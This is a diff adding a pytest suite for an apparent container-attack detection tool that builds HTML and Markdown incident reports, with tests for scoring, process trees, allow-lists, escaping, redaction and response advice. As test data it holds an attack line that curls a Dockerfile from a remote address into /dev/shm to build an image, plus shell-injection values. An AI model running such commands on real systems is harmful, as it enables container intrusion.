@@ -1,0 +1,656 @@
+"""What a report says, and that it says it whatever the events hold."""
+
+from __future__ import annotations
+
+import json
+import os
+import re
+import shlex
+from collections.abc import Iterable
+from datetime import UTC, datetime
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pytest
+from attrs import evolve
+
+from t1612core import AUTO, AllowList, Detector
+from t1612core.cli.main import main
+from t1612core.observation import Link, Source
+from t1612core.report import Collector, Report, Settings, collecting, hosts, html, indicators
+from t1612core.report import markdown as md
+from t1612core.report.content import Piece
+from t1612core.report.marking import event_text, marked
+from t1612core.report.queries import advice, occasions, queries, quoted
+from t1612core.report.tree import tree
+from t1612core.stream.account import Account, Stream, Value
+
+from ..conftest import ROOT
+from .hostile import ATTACKS, events
+
+Event = dict[str, Any]
+ATTACK = ROOT / "examples" / "attack.jsonl"
+
+
+def rows(path: Path) -> list[Event]:
+    return [
+        record
+        for line in path.read_text("utf-8").splitlines()
+        for value in [json.loads(line)]
+        for record in value.get("records", [value])
+    ]
+
+
+def report_of(
+    given: Iterable[Event], allowlist: AllowList | None = None, **settings: Any
+) -> Report:
+    """Make a report of events that are handed over."""
+    detector = Detector(schema=AUTO, allowlist=allowlist)
+    collector = Collector(detector, Settings(**settings))
+    problems: list[str] = []
+    stream = Stream(lambda rejected: problems.append(rejected.reason), schema=AUTO)
+    values = stream.values(Value(at, each) for at, each in enumerate(given, 1))
+
+    def see(event: Any, *, kind: Any) -> Any:
+        return collector.see(event, kind, Source("events", stream.line))
+
+    seen: Any = stream.each(detector.unwrap(values), detector.locate, see)
+    collector.join(step for steps in seen for step in steps)
+    return collector.report(stream.account, problems=problems)
+
+
+def later(event: Event, second: int, **more: Any) -> Event:
+    return {**event, "TimeGenerated": f"2026-03-04T02:11:{second:02}Z", **more}
+
+
+BUILD, RUN = events("x")[1:]
+FILE = events("x")[0]
+
+
+class Texts(HTMLParser):
+    """The texts and tags of a page."""
+
+    def __init__(self, page: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: set[str] = set()
+        self.data: list[str] = []
+        self.feed(page)
+        self.text = "".join(self.data)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.data.append(data)
+
+
+def test_the_attack_of_the_examples_is_told_from_the_top() -> None:
+    report = report_of(rows(ATTACK))
+
+    assert ("malicious", "high", 35) == (report.verdict, report.severity, report.score)
+    headline = "Most likely an attack: an image was built and started on shop-web-2."
+    assert headline == report.headline
+    assert (3, 1, 1) == (report.findings_found, report.chains_found, report.hosts_found)
+    (part,) = report.incidents
+    assert (2, 1, 3, 0) == part.findings  # the start alone is no finding
+    assert [14, 11, 3] == [row.score for row in report.findings]
+    assert {"confirm", "preserve", "contain", "eradicate", "recover"} == {
+        each.action.phase for each in report.advice
+    }
+    assert {"started", "host_power", "egress", "file", "service", "always"} == {
+        each.action.occasion for each in report.advice
+    }
+    told = {(each.kind, each.value) for each in report.indicators}
+    assert ("address", "198.51.100.23") in told
+    assert ("url", "http://198.51.100.23/d") in told
+    assert ("path", "/dev/shm/.x/Dockerfile") in told
+    assert ("image", "alpine:3") in told
+    (host,) = report.hosts
+    assert ("shop-web-2", 35, 3, 1) == (host.host, host.score, host.findings, host.chains)
+    assert 1 == {row.signal: row.findings for row in report.signals}["process.temp_source"]
+
+
+def test_the_processes_are_one_tree_with_the_findings_in_it() -> None:
+    (part,) = report_of(rows(ATTACK)).incidents
+
+    def flat(nodes: Any, depth: int = 0) -> list[tuple[int, str, int]]:
+        return [
+            told
+            for node in nodes
+            for told in [
+                (depth, "".join(piece.text for piece in node.text), node.finding),
+                *flat(node.below, depth + 1),
+            ]
+        ]
+
+    assert [
+        (0, "sh", 0),
+        (1, "curl -so /dev/shm/.x/Dockerfile http://198.51.100.23/d", 2),
+        (0, "php-fpm8.2", 0),
+        (1, "sh", 0),
+        (2, "docker build --no-cache -q -t alpine:3 /dev/shm/.x/", 1),
+        (0, "dockerd", 3),
+    ] == flat(part.tree)
+
+
+def test_a_tree_is_bounded() -> None:
+    many = [
+        later(
+            BUILD,
+            1,
+            InitiatingProcessCommandLine=f"sh {n}",
+            ProcessCommandLine=f"docker build -t x:{n} /dev/shm/x",
+        )
+        for n in range(150)
+    ]
+    rows_of_all = report_of(many).findings
+    nodes = tree([evolve(rows_of_all[0], lineage=()), *rows_of_all])
+
+    def size(of: Any) -> int:
+        return sum(1 + size(each.below) for each in of)
+
+    assert 200 == size(nodes)
+
+
+def test_equal_events_make_equal_pages() -> None:
+    one, other = report_of(rows(ATTACK)), report_of(rows(ATTACK))
+
+    assert html.write(one) == html.write(other)
+    assert md.write(one) == md.write(other)
+
+
+def test_nothing_found_is_green_only_where_all_was_understood() -> None:
+    quiet = {"Type": "DeviceProcessEvents", "FileName": "ls", "ProcessCommandLine": "ls"}
+    whole = report_of([quiet])
+    part = report_of([quiet, {"Type": "DeviceProcessEvents", "FileName": 7}])
+    nothing = report_of([])
+
+    assert ("none", "Nothing was found in 1 event.") == (whole.verdict, whole.headline)
+    assert "unknown" == part.verdict
+    assert "Nothing was found in what was understood, and not everything was." == part.headline
+    assert ("unknown", "Nothing can be said: no event was understood.") == (
+        nothing.verdict,
+        nothing.headline,
+    )
+    assert "Not everything was understood" in html.write(part)
+    assert "Not everything was understood" in md.write(part)
+    assert "Not everything was understood" not in html.write(whole)
+    assert () == whole.advice
+
+
+def test_a_finding_alone_is_told_with_its_queries() -> None:
+    report = report_of([FILE])
+
+    assert "Most likely an attack: suspicious Dockerfile written on webx." == report.headline
+    assert () == report.incidents
+    assert {"KQL", "SPL", "ES|QL", "LogScale"} == {each.language for each in report.queries}
+    (tar,) = [line for each in report.advice for tool, line in each.commands if tool == "tar"]
+    assert tar.endswith(" /dev/shm/x/Dockerfile")
+    page, text = html.write(report), md.write(report)
+    assert "suspicious Dockerfile written" in page
+    assert "## What to do next" in text
+
+
+def test_a_connection_alone_has_its_occasion() -> None:
+    report = report_of([each for each in rows(ATTACK) if "Network" in each["category"]])
+
+    assert {"always", "egress"} == {each.action.occasion for each in report.advice}
+    assert "To be looked at" in report.headline
+
+
+def test_what_an_event_does_not_tell_is_left_out() -> None:
+    bare = {"Type": "DeviceProcessEvents", "FileName": "docker", "ProcessId": 7,
+            "ProcessCommandLine": "docker build --no-cache /dev/shm/.x"}  # fmt: skip
+    (row,) = report_of([bare]).findings
+    page = html.write(report := report_of([bare]))
+
+    assert (None, 1) == (row.time, len(row.lineage))
+    assert (None, None) == (report.first, report.last)
+    assert "none told" in page
+    assert "Processes, the eldest first" not in page
+    assert 0 < len(row.not_evaluable)
+    assert f"{len(row.not_evaluable)} signals, since the event has none of their fields" in page
+
+
+def test_only_what_was_named_is_an_indicator() -> None:
+    named = indicators.Indicators()
+    finding = Detector().score(BUILD)
+    assert finding is not None
+    (step, *_) = Detector().observe(BUILD)
+    named.meet(evolve(step, score=0))
+    assert 0 == named.found
+    links = (Link("process", "7@2026"), Link("image", ""), Link("image", "a:1"))
+    named.meet(evolve(step, score=2, links=links))
+    assert [("image", "a:1")] == [(each.kind, each.value) for each in named.best(9)]
+
+
+def test_a_host_without_a_name_is_said_so() -> None:
+    alone = {**BUILD, "DeviceName": ""}
+    report = report_of([alone])
+    assert report.headline.endswith("on a host without a name.")
+    assert () == report.queries
+    assert "(no name)" in html.write(report)
+    assert "(no name)" in md.write(report)
+
+    chain = report_of([later(alone, 1), later({**RUN, "DeviceName": ""}, 5)])
+    assert chain.headline.endswith("on a host without a name.")
+    assert "(a host without a name)" in html.write(chain)
+
+
+def test_what_an_allow_list_took_is_shown_apart() -> None:
+    allowlist = AllowList.loads(
+        """
+        version = 1
+
+        [[entry]]
+        id = "known"
+        reason = "the pipeline of | web"
+        owner = "<b>me</b>"
+        created = 2026-01-01
+        expires = 2026-06-01
+        kinds = ["process"]
+        match = [
+          { field = "host", op = "equals", value = "webx" },
+          { field = "command_line", op = "glob", value = "*x:1*" },
+        ]
+        effect = { action = "suppress" }
+
+        [[entry]]
+        id = "less"
+        reason = "seen daily"
+        owner = "me"
+        created = 2026-01-01
+        expires = 2026-06-01
+        kinds = ["process"]
+        match = [
+          { field = "host", op = "equals", value = "other" },
+          { field = "command_line", op = "glob", value = "*x:1*" },
+        ]
+        effect = { action = "subtract", points = 1 }
+        """
+    ).on(datetime(2026, 3, 4, tzinfo=UTC).date())
+    mild = {
+        **BUILD,
+        "ProcessCommandLine": "docker build --no-cache -t x:1 /tmp/x",
+        "InitiatingProcessFileName": "sh",
+        "InitiatingProcessCommandLine": "sh",
+        "InitiatingProcessParentFileName": "bash",
+    }
+    report = report_of([mild, {**mild, "DeviceName": "other"}], allowlist)
+
+    assert {"known": 1, "less": 1} == dict(report.entries)
+    assert (1, 1) == (report.findings_found, report.suppressed_found)
+    (row,) = report.findings
+    assert row.score_before - 1 == row.score
+    assert "less takes 1 points: seen daily (me, until 2026-06-01)" in row.allowances
+    (taken,) = report.suppressed
+    assert "known" == taken.suppressed_by
+    assert "known suppresses it: the pipeline of | web (<b>me</b>, until 2026-06-01)" in (
+        taken.allowances
+    )
+    page = Texts(html.write(report))
+    assert "What the allow-list took" in page.text
+    assert "b" not in page.tags
+    assert f"score {row.score} of {row.score_before}" in page.text
+    assert "1 suppressed" in md.write(report)
+    assert "suppressed-table" not in html.write(evolve(report, suppressed=()))
+
+
+def test_an_entry_that_may_hide_nothing_is_told() -> None:
+    text = (ROOT / "examples" / "tuning.toml").read_text("utf-8")
+    allowlist = AllowList.loads(text).on(datetime(2026, 3, 4, tzinfo=UTC).date())
+    given = rows(ROOT / "examples" / "attack.jsonl")
+    told = [line for row in report_of(given, allowlist).findings for line in row.allowances]
+
+    assert any(line.startswith("not suppressed: no entry may hide ") for line in told)
+
+
+def test_the_worst_is_listed_and_the_rest_is_counted() -> None:
+    given = [
+        later(event, at, DeviceName=f"host-{number}")
+        for number in range(12)
+        for at, event in ((1, BUILD), (5, RUN))
+    ]
+    report = report_of(given, findings=3, chains=2)
+    page = html.write(report)
+
+    assert 12 == report.findings_found
+    assert (3, 2, 12) == (len(report.findings), len(report.incidents), report.chains_found)
+    assert "9 more findings, of lower scores, are counted and not shown." in page
+    assert "10 more chains, of lower scores, are counted and not shown." in page
+    assert " and 7 more" in page
+    assert " and 7 more" in md.write(report)
+
+
+def test_a_ticket_lists_twenty() -> None:
+    given = [{**BUILD, "DeviceName": f"host-{number}"} for number in range(25)]
+
+    assert "\n5 more that differ are left out here.\n" in md.write(report_of(given))
+
+
+def test_findings_that_repeat_are_one_row_with_a_count() -> None:
+    report = report_of([later(BUILD, 1), later(BUILD, 40)])
+    (row,) = report.findings
+
+    assert (2, 1, 40) == (row.count, row.time and row.time.second, row.last and row.last.second)
+    assert "2026-03-04 02:11:01 to 2026-03-04 02:11:40, 2 times" in html.write(report)
+
+
+def test_a_score_below_the_least_does_not_count() -> None:
+    report = report_of(rows(ATTACK), least=12)
+
+    assert [14] == [row.score for row in report.findings]
+
+
+def test_hosts_and_indicators_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(hosts, "_MOST", 3)
+    monkeypatch.setattr(indicators, "_MOST", 4)
+    monkeypatch.setattr(indicators, "_MOST_HOSTS", 1)
+    monkeypatch.setattr(collecting, "_SHOWN", 2)
+    given = [
+        {**FILE, "DeviceName": f"host-{number}", "FolderPath": f"/dev/shm/{number}/Dockerfile"}
+        for number in range(9)
+    ]
+    report = report_of([*given, given[0], {**given[0], "DeviceName": "host-1"}])
+    page = html.write(report)
+
+    assert 4 == report.hosts_found  # three, and the others together
+    assert (2, 2) == (len(report.hosts), len(report.indicators))
+    assert report.indicators_found >= 9
+    assert "the worst 2 are listed" in page
+    assert f"2 of {report.indicators_found} are listed" in page
+
+
+def test_steps_that_no_chain_can_have_are_a_problem() -> None:
+    report = report_of([{**RUN, "TimeGenerated": None}])
+
+    assert ("1 step that no chain can have: without a time",) == report.problems
+    assert (
+        "unknown"
+        == report_of([{**RUN, "ProcessCommandLine": "docker run x", "TimeGenerated": 0}]).verdict
+    )
+
+
+def test_a_step_that_is_repeated_or_suppressed_says_so() -> None:
+    (part,) = (report := report_of([later(BUILD, 1), later(RUN, 5)])).incidents
+    steps = tuple(
+        evolve(step, repeated=1200, suppressed_by="known") for step in part.incident.steps
+    )
+    changed = evolve(part, incident=evolve(part.incident, steps=steps, forgotten=2, accounts=()))
+    page = html.write(evolve(report, incidents=(changed,)))
+
+    assert "and 1,200 times more" in page
+    assert "suppressed by known" in page
+    assert "2 steps more are not drawn." in page
+    assert "none told" in page
+
+
+def test_findings_that_are_not_listed_leave_the_page_whole() -> None:
+    report = evolve(report_of(rows(ATTACK)), incidents=(), findings=())
+    page = html.write(report)
+
+    assert "the findings are not listed" in page
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_no_text_of_an_event_becomes_markup(attack: str) -> None:
+    report = report_of(events(attack), title=attack)
+    page = html.write(report)
+    seen, calm = Texts(page), Texts(html.write(report_of(events("x"), title="x")))
+
+    page.encode("utf-8")  # no half of a pair is left
+    assert set(calm.tags) >= set(seen.tags)
+    assert calm.attributes >= seen.attributes
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\u200b\ufeff]", page)
+    # Whole lines of a ticket are ours: none begins as an event would like it to.
+    text = md.write(report)
+    text.encode("utf-8")
+    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e\u200b\ufeff]", text)
+    inner = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text)  # without spans of code
+    inner = re.sub(r"\\.", "", inner)
+    inner = re.sub(r"(?m)^ {7}.*$", "", inner)
+    assert not re.search(r"<(?!br)|\]\(|https?://|www\.evil|(?m:^```)", inner)
+
+
+def test_secrets_are_in_neither_form() -> None:
+    secret = "hunter2hunter2"
+    event = {
+        **BUILD,
+        "ProcessCommandLine": f"docker build --build-arg TOKEN={secret} -t x:1 /dev/shm/.x",
+        "InitiatingProcessCommandLine": f"sh -c 'curl -u me:{secret} https://203.0.113.5/x'",
+        "More": {"password": secret, "list": [f"Authorization: Bearer {secret}"]},
+    }
+    report = report_of([event, later(RUN, 9)])
+
+    assert secret not in html.write(report)
+    assert secret not in md.write(report)
+
+
+def test_an_event_is_shown_whatever_it_holds() -> None:
+    deep: Any = "x"
+    for _ in range(40):
+        deep = {"a": deep}
+    event: dict[Any, Any] = {
+        "text": "a" * 5000,
+        "many": list(range(500)),
+        "deep": deep,
+        "time": datetime(2026, 3, 4, tzinfo=UTC),
+        "other": object(),
+        7: {"b": None},
+        **{f"key-{number}": number for number in range(400)},
+    }
+    told = event_text(event)
+
+    assert len(told) == 6000
+    assert told.endswith("…")
+    assert "2026-03-04T00:00:00+00:00" in event_text({"time": event["time"]})
+    assert '"… object"' in event_text({"other": object()})
+
+
+def test_what_signals_saw_is_marked_where_it_stands() -> None:
+    (row,) = report_of([BUILD]).findings
+    seen = [piece.text for piece in row.detail if piece.is_match]
+
+    assert "--no-cache" in seen
+    assert "".join(piece.text for piece in row.detail) == BUILD["ProcessCommandLine"]
+    finding = Detector().score(BUILD)
+    assert finding is not None
+    (item,) = [each for each in finding.evidence if each.text == "--no-cache"]
+    moved = marked("docker  build --no-cache", [item])
+    assert (Piece("--no-cache", is_match=True),) == moved[-1:]
+    assert (Piece("nothing"),) == marked("nothing", [item, evolve(item, text="")])
+    twice = marked(
+        "--no-cache x", [evolve(item, span=(0, 10)), evolve(item, span=None, text="-cache")]
+    )
+    assert [("--no-cache", True), (" x", False)] == [(p.text, p.is_match) for p in twice]
+    assert 1000 == len("".join(piece.text for piece in marked("a" * 9000, [])))
+
+
+NOON = datetime(2026, 3, 4, 12, tzinfo=UTC)
+
+
+def test_a_name_stands_in_a_query_as_one_text() -> None:
+    hostile = 'a"\\\n| drop \u202e'
+    assert '"a\\"\\\\\\\\n| drop \\\\u202e"' == quoted(hostile)
+    for query in queries(hostile, NOON, NOON):
+        assert hostile not in query.text
+        (line,) = [each for each in query.text.splitlines() if "drop" in each]
+        assert quoted(hostile) in line
+    assert () == queries("", NOON, NOON)
+    assert () == queries("a", None, None)
+    kql, *_ = queries("a", NOON, NOON)
+    assert "datetime(2026-03-04T11:00:00Z) .. datetime(2026-03-04T13:00:00Z)" in kql.text
+
+
+@pytest.mark.parametrize(
+    "value",
+    ["-v", "a b", "a;b", "$(a)", "`a`", "a\nb", "a'b", "", "ü", "a|b", "~", "a*", "a" * 300],
+)
+def test_what_a_shell_would_change_is_put_into_no_command(value: str) -> None:
+    told = advice({"always", "started"}, {"image": value, "container": value}, NOON, NOON)
+    lines = [line for each in told for _, line in each.commands]
+
+    assert lines
+    assert not any(value in line for line in lines if value and value != "-v")
+    assert any(line.endswith(" IMAGE") for line in lines)
+    assert any(line.endswith(" CONTAINER") for line in lines)
+
+
+def test_what_is_plain_is_put_into_commands() -> None:
+    named = {"image": "registry.example/a:1@sha256:ab", "container": "web-1", "path": "/tmp/x"}
+    lines = [
+        line
+        for each in advice({"always", "started", "file"}, named, NOON, NOON)
+        for _, line in each.commands
+    ]
+
+    assert "docker pause web-1" in lines
+    assert "docker save -o evidence-image.tar registry.example/a:1@sha256:ab" in lines
+    for line in lines:
+        assert not re.search(r"[{}]", line)
+        shlex.split(line)
+    without = [line for each in advice({"always"}, {}, None, None) for _, line in each.commands]
+    assert "docker events --since START --until END" in without
+
+
+def test_nothing_is_removed_before_it_is_kept() -> None:
+    told = advice({"always", "started", "file"}, {}, NOON, NOON)
+    phases = [each.action.phase for each in told]
+    removing = [
+        each.action.phase
+        for each in told
+        for _, line in each.commands
+        if re.search(r"\b(?:rm|rmi|prune|kill|stop)\b", line)
+    ]
+
+    assert {"eradicate"} == set(removing)
+    assert phases.index("preserve") < phases.index("eradicate")
+
+
+def test_occasions_are_what_was_seen() -> None:
+    assert {"always"} == occasions((), (), ())
+    assert {"always", "api", "service", "host_power"} == occasions(
+        (), ("daemon.api_build", "process.web_server_lineage"), ("T1611",)
+    )
+
+
+# The command.
+
+
+def test_the_command_writes_a_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    to = tmp_path / "report.html"
+    to.write_text("old", "utf-8")
+
+    assert 1 == main(["report", "-o", str(to), "--title", "Case 7", str(ATTACK)])
+    page = to.read_text("utf-8")
+    assert page.startswith('<!doctype html>\n<html lang="en">')
+    assert "<title>Case 7</title>" in page
+    assert "examples/attack.jsonl:3" in page
+    assert [to] == list(tmp_path.iterdir())
+    said = capsys.readouterr()
+    assert "" == said.out
+    assert "6 events = 6 scored + 0 rejected; 3 findings, 1 chain" in said.err
+
+
+def test_the_form_follows_the_name(tmp_path: Path) -> None:
+    assert 1 == main(["report", "--findings", "2", "-o", str(tmp_path / "a.MD"), str(ATTACK)])
+    assert (tmp_path / "a.MD").read_text("utf-8").startswith("# Container images built on hosts\n")
+
+
+def test_without_a_name_it_is_printed(capsys: pytest.CaptureFixture[str]) -> None:
+    assert 0 == main(["report", "--format", "md", str(ROOT / "examples" / "quiet-day.json")])
+
+    assert "**Nothing was found in " in capsys.readouterr().out
+
+
+def test_what_was_not_understood_stands_on_the_page(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = tmp_path / "mixed.jsonl"
+    source.write_text(f'{json.dumps(BUILD)}\nnot json <b>\n{{"a": 1}}\n', "utf-8")
+    lists = ["--allowlist", str(ROOT / "examples" / "tuning.toml"), "--today", "2026-03-04"]
+
+    code = main(["report", "--format", "md", *lists, str(source), str(tmp_path / "missing")])
+    told = capsys.readouterr().out
+    assert 3 == code
+    assert "Not everything was understood" in told
+    assert "mixed.jsonl\\:2" in told or "mixed\\.jsonl\\:2" in told
+    assert "input not read to the end" in told
+    assert "cannot be read" in told
+    assert "all lists as one: " in told
+    assert 3 == main(["report", *lists, str(source), str(tmp_path / "missing")])
+    page = capsys.readouterr().out
+    assert "Table of allow-lists" in page
+
+
+def test_standard_input_is_said_not_to_be_read_twice(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    with ATTACK.open(encoding="utf-8") as stream:
+        monkeypatch.setattr("sys.stdin", stream)
+        assert 1 == main(["report", "--format", "md"])
+    assert "`standard input`: not there to be read twice" in capsys.readouterr().out
+
+    pipe = tmp_path / "pipe"
+    os.mkfifo(pipe)
+    writer = os.open(pipe, os.O_RDWR)  # so that opening it does not wait
+    from t1612core.cli.report import _input
+
+    assert "not there to be read twice" == _input(str(pipe)).digest
+    os.close(writer)
+
+
+def test_a_page_that_cannot_be_written_ends_with_2(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    to = tmp_path / "missing" / "report.html"
+
+    assert 2 == main(["report", "-o", str(to), str(ATTACK)])
+    assert "cannot write the output" in capsys.readouterr().err
+    assert 1 == main(["report", "-o", os.devnull, str(ATTACK)])
+    assert 2 == main(["report", "-o", str(ATTACK), str(ATTACK)])
+    assert "--output is one of the files that are read" in capsys.readouterr().err
+
+
+def test_an_interrupted_run_leaves_the_old_page(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    to = tmp_path / "report.html"
+    to.write_text("old", "utf-8")
+
+    def interrupted(*_: object, **__: object) -> None:
+        raise KeyboardInterrupt
+
+    monkeypatch.setattr(Collector, "report", interrupted)
+    assert 130 == main(["report", "-o", str(to), str(ATTACK)])
+    assert "old" == to.read_text("utf-8")
+
+    monkeypatch.undo()
+    monkeypatch.setattr(os, "replace", interrupted)
+    assert 130 == main(["report", "-o", str(to), str(ATTACK)])
+    assert [to] == list(tmp_path.iterdir())
+
+
+def test_the_account_says_what_was_suppressed(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    source = ROOT / "examples" / "validation-tests.jsonl"
+    lists = ["--allowlist", str(ROOT / "examples" / "tuning.toml"), "--today", "2026-03-04"]
+
+    assert 1 == main(["report", *lists, "-o", str(tmp_path / "a.html"), str(source)])
+    assert ", 2 suppressed, " in capsys.readouterr().err
+
+
+@pytest.mark.parametrize("number", ["0", "5001", "x", "-1", "9" * 5000])
+def test_a_number_of_findings_is_one(number: str) -> None:
+    with pytest.raises(SystemExit):
+        main(["report", "--findings", number, str(ATTACK)])
+
+
+def test_an_account_without_events_says_so() -> None:
+    report = Collector(Detector()).report(Account())
+
+    assert "nothing" in html.write(report)
